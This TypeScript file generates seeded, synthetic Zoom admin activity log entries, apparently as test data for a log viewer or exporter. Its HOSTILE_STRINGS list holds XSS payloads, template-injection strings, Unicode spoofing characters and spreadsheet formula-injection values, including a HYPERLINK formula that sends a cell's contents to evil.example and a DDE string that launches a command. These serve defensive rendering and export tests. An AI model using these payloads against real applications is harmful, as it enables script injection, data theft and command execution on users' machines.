/**
 * Deterministic generator of Zoom operation-log entries (Admin Activity Logs).
 * Same (seed, count, now, hostile) -> same entries, newest first.
 */
import { isoSeconds, sixMonthsHorizon } from './dates';

export interface SimEntry {
  time: string;
  operator: string;
  category_type: string;
  action: string;
  operation_detail: string;
}

/** Query enum (`category_type` parameter) -> display string found in entries. */
export const CATEGORY_DISPLAY: Record<string, string> = {
  user: 'User',
  user_settings: 'User Settings',
  account: 'Account',
  billing: 'Billing',
  im: 'IM',
  recording: 'Recording',
  phone_contacts: 'Phone Contacts',
  webinar: 'Webinar',
  sub_account: 'Sub Account',
  role: 'Role',
  zoom_rooms: 'Zoom Rooms',
};

/** Display strings the generator uses for ~1% of entries; they match no query enum (only `all`). */
export const UNKNOWN_DISPLAY_CATEGORIES = ['Meeting Settings', 'Security', 'Team Chat Channel'];

/** About 1 MB; present at most once in a hostile data set. */
export const HUGE_STRING: string = (() => {
  const unit = 'Lorem <b>ipsum</b> "dolor", sit\namet; ';
  return 'HUGE:' + unit.repeat(Math.ceil((1024 * 1024) / unit.length));
})();

/** Strings that must be rendered/exported as inert text. */
export const HOSTILE_STRINGS: string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '</script>',
  'javascript:alert(1)',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<!--',
  'admin\u202Egnp.exe', // right-to-left override
  '\u2066isolate\u2069 text', // left-to-right isolate
  'zero\u200Bwidth\u200Cjoin\u200Dchars\uFEFF',
  'emoji 😀👩‍👩‍👧‍👦 🇺🇸 flags',
  'Z̶̢a̷͉l̸̨g̵͖o̴̡ combining marks',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  'He said "hi", then \'bye\',\nand left;\r\nnew "line", comma',
  '',
  ' ',
  'null',
  'undefined',
  '__proto__',
  '\\u0000 \\ backslashes \\\\',
  'tab\tand\u0000nul',
  HUGE_STRING,
];

/** mulberry32: small, fast, seedable PRNG returning floats in [0, 1). */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

type Rng = () => number;
const pick = <T>(rng: Rng, xs: readonly T[]): T => xs[Math.floor(rng() * xs.length)];
const int = (rng: Rng, lo: number, hi: number): number => lo + Math.floor(rng() * (hi - lo + 1));

const FIRST = [
  'jane',
  'john',
  'maria',
  'wei',
  'aisha',
  'lukas',
  'sofia',
  'raj',
  'emma',
  'omar',
  'yuki',
  'carlos',
  'nina',
  'ben',
  'fatima',
  'li',
  'olga',
  'sam',
  'priya',
  'tom',
];
const LAST = [
  'doe',
  'smith',
  'garcia',
  'chen',
  'khan',
  'muller',
  'rossi',
  'patel',
  'brown',
  'haddad',
  'tanaka',
  'lopez',
  'ivanova',
  'okafor',
  'nguyen',
  'kim',
  'silva',
  'jones',
];
const ADMIN_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net'];
const USER_DOMAINS = ['example.com', 'corp.example.org', 'it.example.net', 'contractors.example.com'];

function cap(s: string): string {
  return s.charAt(0).toUpperCase() + s.slice(1);
}

/** ~30 admin operators on three domains (fixed, independent of the seed). */
export const OPERATORS: string[] = (() => {
  const r = mulberry32(0xad_01);
  const out = new Set<string>();
  while (out.size < 30) {
    const f = pick(r, FIRST);
    const l = pick(r, LAST);
    const style = out.size % 3;
    const local = style === 0 ? `${f}.${l}` : style === 1 ? `${f[0]}${l}` : `${f}.${l}.admin`;
    out.add(`${local}@${ADMIN_DOMAINS[out.size % ADMIN_DOMAINS.length]}`);
  }
  return [...out];
})();

function userEmail(rng: Rng): string {
  const f = pick(rng, FIRST);
  const l = pick(rng, LAST);
  const n = rng() < 0.2 ? String(int(rng, 1, 99)) : '';
  return `${f}.${l}${n}@${pick(rng, USER_DOMAINS)}`;
}
function fullName(rng: Rng): string {
  return `${cap(pick(rng, FIRST))} ${cap(pick(rng, LAST))}`;
}
function meetingId(rng: Rng): string {
  return `${int(rng, 810, 899)} ${int(rng, 1000, 9999)} ${int(rng, 1000, 9999)}`;
}
const onOff = (rng: Rng): [string, string] => (rng() < 0.5 ? ['On', 'Off'] : ['Off', 'On']);

const USER_SETTINGS = [
  'Cloud Recording',
  'Join Before Host',
  'Waiting Room',
  'Screen Sharing',
  'Require Passcode for Meetings',
  'Local Recording',
  'Breakout Room',
  'Allow Live Streaming',
];
const ACCOUNT_SETTINGS = [
  'Only authenticated users can join meetings',
  'Cloud Recording',
  'Automatic Recording',
  'Embed passcode in invite link',
  'Allow users to change their name',
  'Data Center Regions',
];
const DEPARTMENTS = ['Engineering', 'Sales', 'Marketing', 'Finance', 'HR', 'Legal', 'Support', 'Operations'];
const ROOMS = [
  'HQ-3F Boardroom',
  'HQ-2F Huddle 1',
  'Berlin Focus Room',
  'Tokyo Large Conf',
  'NYC Town Hall',
  'London Studio',
];
const ROLES = ['Admin', 'Helpdesk', 'Billing Admin', 'Auditor', 'Room Manager'];
const TOPICS = [
  'Weekly Sync',
  'Quarterly All-Hands',
  'Customer Onboarding',
  'Board Meeting',
  'Sprint Review',
  'Training: Security 101',
];

interface Template {
  weight: number;
  actions: [string, number, (rng: Rng) => string][];
}

const TEMPLATES: Record<string, Template> = {
  User: {
    weight: 34,
    actions: [
      ['Add', 3, (r) => `Add User ${userEmail(r)} - User Type: ${pick(r, ['Basic', 'Licensed'])}`],
      [
        'Update',
        6,
        (r) => {
          const email = userEmail(r);
          switch (int(r, 0, 3)) {
            case 0: {
              const n = fullName(r);
              return `Update User ${email} - Display Name: from '${n}' to '${n.split(' ')[0]} ${n.split(' ')[1][0]}.'`;
            }
            case 1:
              return `Update User ${email} - Department: from '${pick(r, DEPARTMENTS)}' to '${pick(r, DEPARTMENTS)}'`;
            case 2:
              return `Update User ${email} - User Type: from 'Basic' to 'Licensed'`;
            default:
              return `Update User ${email} - Job Title: from 'Engineer' to 'Senior Engineer'`;
          }
        },
      ],
      ['Delete', 2, (r) => `Delete User ${userEmail(r)}${r() < 0.5 ? ' - Transfer data to ' + userEmail(r) : ''}`],
      ['Batch Update', 1, (r) => `Batch Update Users - ${int(r, 2, 250)} users updated via CSV - User Type: Licensed`],
      ['Deactivate', 1, (r) => `Deactivate User ${userEmail(r)}`],
      ['Activate', 1, (r) => `Activate User ${userEmail(r)}`],
    ],
  },
  'User Settings': {
    weight: 12,
    actions: [
      [
        'Update',
        5,
        (r) => {
          const [a, b] = onOff(r);
          return `Update User Settings ${userEmail(r)} - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`;
        },
      ],
      [
        'Batch Update',
        1,
        (r) => {
          const [a, b] = onOff(r);
          return `Batch Update User Settings - ${int(r, 2, 120)} users - ${pick(r, USER_SETTINGS)}: from '${a}' to '${b}'`;
        },
      ],
    ],
  },
  Account: {
    weight: 11,
    actions: [
      [
        'Update',
        5,
        (r) => {
          const [a, b] = onOff(r);
          return `Update Account Settings - ${pick(r, ACCOUNT_SETTINGS)}: from '${a}' to '${b}'`;
        },
      ],
      [
        'Add',
        1,
        (r) => `Add Associated Domain ${pick(r, ['example.io', 'example.co.uk', 'example.de', 'acme.example'])}`,
      ],
      ['Delete', 1, (r) => `Delete Associated Domain ${pick(r, ['old.example.com', 'legacy.example.org'])}`],
      ['Sign In', 1, (r) => `Sign In - Admin portal sign-in from 203.0.113.${int(r, 1, 254)}`],
    ],
  },
  Billing: {
    weight: 3,
    actions: [
      [
        'Update',
        3,
        (r) => {
          const n = int(r, 10, 400);
          return `Update Plan - Licenses: from '${n}' to '${n + int(r, 1, 50)}'`;
        },
      ],
      ['Add', 1, () => 'Add Plan - Zoom Webinar 500 (1 license)'],
      ['Update', 1, (r) => `Update Billing Contact - Email: from '${userEmail(r)}' to '${userEmail(r)}'`],
    ],
  },
  IM: {
    weight: 5,
    actions: [
      ['Add', 2, (r) => `Add IM Group '${pick(r, DEPARTMENTS)}' (${int(r, 2, 80)} members)`],
      [
        'Update',
        2,
        (r) => {
          const d = pick(r, DEPARTMENTS);
          return `Update IM Group '${d}' - Name: from '${d}' to '${d} EMEA'`;
        },
      ],
      ['Delete', 1, (r) => `Delete IM Group '${pick(r, DEPARTMENTS)} (old)'`],
    ],
  },
  Recording: {
    weight: 8,
    actions: [
      ['Delete', 4, (r) => `Delete Recording '${pick(r, TOPICS)}' (Meeting ID ${meetingId(r)}) of ${userEmail(r)}`],
      ['Recover', 1, (r) => `Recover Recording '${pick(r, TOPICS)}' (Meeting ID ${meetingId(r)}) from trash`],
      ['Update', 1, (r) => `Update Recording '${pick(r, TOPICS)}' - Share: from 'Off' to 'On'`],
    ],
  },
  'Phone Contacts': {
    weight: 3,
    actions: [
      ['Add', 2, (r) => `Add Phone Contact '${fullName(r)}' +1 555-01${int(r, 10, 99)}`],
      ['Delete', 1, (r) => `Delete Phone Contact '${fullName(r)}'`],
      ['Batch Update', 1, (r) => `Batch Update Phone Contacts - ${int(r, 5, 500)} contacts imported from CSV`],
    ],
  },
  Webinar: {
    weight: 5,
    actions: [
      [
        'Update',
        3,
        (r) => `Update Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)}) - Registration: from 'Off' to 'On'`,
      ],
      ['Add', 1, (r) => `Add Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)}) for ${userEmail(r)}`],
      ['Delete', 1, (r) => `Delete Webinar '${pick(r, TOPICS)}' (ID ${meetingId(r)})`],
    ],
  },
  'Sub Account': {
    weight: 2,
    actions: [
      ['Add', 1, (r) => `Add Sub Account 'Acme ${pick(r, ['EMEA', 'APAC', 'LATAM'])}' - Owner: ${userEmail(r)}`],
      [
        'Update',
        2,
        (r) => {
          const n = int(r, 5, 100);
          return `Update Sub Account 'Acme ${pick(r, ['EMEA', 'APAC', 'LATAM'])}' - Seats: from '${n}' to '${n + 5}'`;
        },
      ],
      ['Delete', 1, () => `Delete Sub Account 'Acme Test'`],
    ],
  },
  Role: {
    weight: 5,
    actions: [
      ['Add', 1, (r) => `Add Role '${pick(r, ROLES)} ${int(r, 2, 9)}'`],
      [
        'Update',
        2,
        (r) =>
          `Update Role '${pick(r, ROLES)}' - Privileges: added '${pick(r, ['Users: View', 'Users: Edit', 'Recordings: View', 'Reports: View'])}'`,
      ],
      ['Delete', 1, (r) => `Delete Role '${pick(r, ROLES)} (old)'`],
      ['Assign', 2, (r) => `Assign Role '${pick(r, ROLES)}' to ${userEmail(r)}`],
    ],
  },
  'Zoom Rooms': {
    weight: 9,
    actions: [
      [
        'Update',
        4,
        (r) =>
          `Update Zoom Room '${pick(r, ROOMS)}' - ${pick(r, ['Location', 'Display Name', 'Calendar'])}: from '${pick(r, ROOMS)}' to '${pick(r, ROOMS)}'`,
      ],
      ['Add', 1, (r) => `Add Zoom Room '${pick(r, ROOMS)} ${int(r, 2, 9)}'`],
      ['Delete', 1, (r) => `Delete Zoom Room '${pick(r, ROOMS)}'`],
      ['Sign In', 1, (r) => `Sign In Zoom Room '${pick(r, ROOMS)}' controller with activation code`],
    ],
  },
};

const UNKNOWN_TEMPLATE: Template['actions'] = [
  [
    'Update',
    1,
    (r) => {
      const [a, b] = onOff(r);
      return `Update Meeting Settings - ${pick(r, ['Focus mode', 'Meeting reactions', 'Whiteboard'])}: from '${a}' to '${b}'`;
    },
  ],
];

const DISPLAYS = Object.keys(TEMPLATES);
const TOTAL_WEIGHT = DISPLAYS.reduce((s, k) => s + TEMPLATES[k].weight, 0);

function pickWeighted<T>(rng: Rng, items: readonly T[], weight: (t: T) => number): T {
  const total = items.reduce((s, t) => s + weight(t), 0);
  let x = rng() * total;
  for (const t of items) {
    x -= weight(t);
    if (x < 0) return t;
  }
  return items[items.length - 1];
}

function makeEntry(rng: Rng, display: string, timeMs: number): SimEntry {
  const known = TEMPLATES[display];
  const actions = known ? known.actions : UNKNOWN_TEMPLATE;
  const [action, , detail] = pickWeighted(rng, actions, (a) => a[1]);
  return {
    time: isoSeconds(timeMs),
    operator: pick(rng, OPERATORS),
    category_type: display,
    action,
    operation_detail: detail(rng),
  };
}

/**
 * Generates `count` entries between the day after the six-month horizon (00:00:00Z) and `now`,
 * newest first. Every known category appears when count >= 11; ~1% use an unknown display category;
 * ~10% share their second with a neighbour. `hostile`: ~5% of entries get a HOSTILE_STRINGS value in
 * operator / category_type / action / operation_detail (the ~1 MB string exactly once, in a detail).
 */
export function generateEntries(opts: { seed: number; count: number; now: number; hostile?: boolean }): SimEntry[] {
  const rng = mulberry32(opts.seed ^ 0x5eed_0000);
  const count = Math.max(0, Math.floor(opts.count));
  const end = Math.floor(opts.now / 1000) * 1000;
  const start = sixMonthsHorizon(opts.now) + 86_400_000;
  const span = Math.max(0, end - start);

  const entries: { e: SimEntry; ms: number; i: number }[] = [];
  let prevMs = end;
  for (let i = 0; i < count; i++) {
    let display: string;
    if (i < DISPLAYS.length && count >= DISPLAYS.length) display = DISPLAYS[i];
    else if (rng() < 0.01 || (i === DISPLAYS.length && count >= 100)) display = pick(rng, UNKNOWN_DISPLAY_CATEGORIES);
    else display = pickWeighted(rng, DISPLAYS, (d) => TEMPLATES[d].weight / TOTAL_WEIGHT);

    let ms: number;
    const burst = rng();
    if (i > 0 && burst < 0.07) {
      ms = prevMs;
    } // same second as the previous one
    else if (i > 0 && burst < 0.1) ms = Math.min(end, prevMs + int(rng, 1, 5) * 1000);
    else ms = start + Math.floor(rng() * (span + 1));
    ms = Math.floor(ms / 1000) * 1000;
    prevMs = ms;
    entries.push({ e: makeEntry(rng, display, ms), ms, i });
  }

  if (opts.hostile && count > 0) {
    const fields = ['operator', 'category_type', 'action', 'operation_detail', 'operation_detail'] as const;
    const small = HOSTILE_STRINGS.filter((s) => s !== HUGE_STRING);
    for (const x of entries) {
      if (rng() >= 0.05) continue;
      const field = pick(rng, fields);
      const h = pick(rng, small);
      x.e[field] =
        field === 'operation_detail' && rng() < 0.5 ? `Update User ${h} - Display Name: from '${h}' to 'x'` : h;
    }
    entries[Math.floor(rng() * entries.length)].e.operation_detail = HUGE_STRING;
  }

  entries.sort((a, b) => b.ms - a.ms || a.i - b.i);
  return entries.map((x) => x.e);
}
